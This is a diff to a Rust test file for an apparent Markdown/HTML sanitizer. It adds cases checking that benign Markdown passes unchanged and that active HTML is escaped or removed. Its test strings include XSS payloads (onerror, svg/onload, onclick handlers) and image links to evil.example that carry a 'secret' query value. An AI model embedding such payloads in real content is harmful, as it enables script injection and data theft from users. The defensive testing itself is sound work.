@@ -44,6 +44,7 @@ fn ordinary_answers_are_unchanged() {
         "# Title\n\n1. one\n2. two\n   - three\n\n> quoted\n\n| a | b |\n|---|---|\n| `x` | 1 < 2 |\n",
         "Use `<script>` and `![x](y)`:\n\n```html\n<img src=x onerror=\"alert(1)\">\n<!-- a -->\n```\n\n    <b>indented</b>\n",
         "[mail](mailto:a@b.example) [section](#x) [file](src/main.rs#L12) [ref]\n\n[ref]: http://a.example 'title'\n",
+        "> ```html\n> <b>\n> <i>\n> ```\n",
         "a < b && c > d, 3<4, x<-y, &lt;i>",
         "👩\u{200D}💻 ❤\u{FE0F}",
     ] {
@@ -64,6 +65,8 @@ fn active_parts_are_removed_and_their_text_stays() {
         ("<div onclick=x\nfoo", "&lt;div onclick=x\nfoo"),
         ("<svg/onload=x> \\<b> \\\\<b> i<n a <b", "&lt;svg/onload=x> &lt;b> \\\\&lt;b> i&lt;n a &lt;b"),
         ("> <b>\n> quoted", "> &lt;b>\n> quoted"),
+        ("a\n\n  <b>\n   <div onclick=x>\n[c](https://d.example)", "a\n\n  &lt;b>\n   \n[c](https://d.example)"),
+        ("a\n\n   <div\n[c](https://d.example)", "a\n\n   &lt;div\n[c](https://d.example)"),
         ("![logo](https://evil.example/?q=secret)", IMAGE),
         (
             "![a][b] and ![b]\n\n[b]: https://evil.example/x.png",
